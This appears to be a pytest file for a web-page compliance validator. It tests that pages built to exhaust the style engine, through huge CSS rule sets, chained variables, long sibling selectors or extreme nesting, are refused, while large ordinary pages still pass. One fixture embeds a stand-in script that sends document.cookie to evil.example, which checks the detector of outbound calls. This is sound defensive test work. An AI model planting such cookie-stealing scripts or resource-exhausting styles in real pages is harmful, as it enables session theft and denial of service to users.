"""Pages made to keep the rules busy: they are refused with a finding that says why, and large honest ones are not."""

import pytest

from loopwright.agents.pages.compliance import validate_page
from loopwright.agents.pages.compliance.act import check_act
from loopwright.agents.pages.compliance.cascade.computed import MAXIMUM_STEPS, SelectorIndex
from loopwright.agents.pages.compliance.page import Page
from loopwright.agents.pages.compliance.validate import calls_out

ITEM = '<li class="card c{0}" id="i{0}"><h3>Item {0}</h3><p>Some words</p><a href="#i{0}">Open</a></li>'
HOSTILE = {
    "every element many times": "".join(f"*{{margin:{number}px}}" for number in range(2000)),
    "variables of variables": "*{" + "".join(f"--v{n}:var(--v{n - 1},{n});" for n in range(1, 2000)) + "}",
    "siblings of siblings": "li ~ li ~ li ~ li ~ .c999{color:red}",
    "ancestors of ancestors": f".c7 {'* ' * 12}.deep{{color:red}}",
    "what holds what does not hold": "li:not(:has(a:not(.c7))) ~ li ~ li ~ li{color:red}",
}


def page(css: str, items: int = 1000, body: str = "") -> str:
    listed = "".join(ITEM.format(number) for number in range(items))
    return (
        f"<!doctype html><html lang=en><head><title>List</title><style>{css}</style></head>"
        f"<body><main><section><div><ul>{listed}</ul></div></section></main>{body}</body></html>"
    )


@pytest.mark.parametrize("css", HOSTILE.values(), ids=HOSTILE)
def test_styles_that_ask_for_too_much_are_refused(css: str) -> None:
    report = validate_page(page(css, body="<div>" * 60 + "<b class=deep>x</b>"))
    assert [(issue.rule, issue.severity) for issue in report.issues] == [("page-styles", "error")]
    assert {result.outcome for result in check_act(page(css, body="<div>" * 60 + "<b class=deep>x</b>"))} == {
        "cantTell"
    }


def test_a_page_that_is_nested_too_deeply_is_refused() -> None:
    report = validate_page(page("", items=1, body="<div>" * 2000))
    assert [(issue.rule, issue.required) for issue in report.issues] == [("page-size", "512 levels at most")]


def test_a_large_page_with_ordinary_styles_is_checked() -> None:
    css = "".join(
        f".card{n},ul > .c{n} p,.x{n} ~ li a:hover,li:nth-child({n}n){{color:#{n:03d};padding:{n}px}}"
        for n in range(1, 60)
    )
    report = validate_page(page(css, items=3000))
    assert not {"page-size", "page-styles"} & {issue.rule for issue in report.issues}
    assert len(report.rules_checked) > 10


def test_nothing_is_said_of_values_that_were_not_worked_out() -> None:
    read = Page.read(page(HOSTILE["siblings of siblings"]))
    assert read.cascade.exhausted_by == "styles"
    assert all(read.cascade.value(node, "display") is None for node in read.find("li, p"))


def test_calls_to_other_hosts_are_found_behind_hostile_styles() -> None:
    evil = "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    assert calls_out(page(HOSTILE["siblings of siblings"], body=evil))
    assert calls_out(page("", items=1, body="<div>" * 2000 + evil))


@pytest.mark.parametrize(
    ("selector", "matches"),
    [
        (".missing p", False),
        ("p.missing", False),
        ("#i3 > h3", True),
        (".C3 > H3", True),
        ('[data-x=".missing"]', True),
        (".car\\64", True),
        (":not(.missing)", True),
        (":is(.missing, p)", True),
        ("h3:is(.missing)", True),
    ],
)
def test_only_selectors_that_can_match_cost_something(selector: str, *, matches: bool) -> None:
    index = SelectorIndex(Page.read(page("", items=5)).document)
    assert bool(index.steps(selector)) is matches


def test_what_a_selector_costs_grows_with_its_ways_through_the_page() -> None:
    index = SelectorIndex(Page.read(page("", items=500)).document)
    costs = [index.steps(each) for each in ("p", "ul p", "li ~ li", "li ~ li ~ li", "li ~ li ~ li ~ li")]
    assert costs == sorted(costs)
    assert costs[2] < MAXIMUM_STEPS < costs[-1]
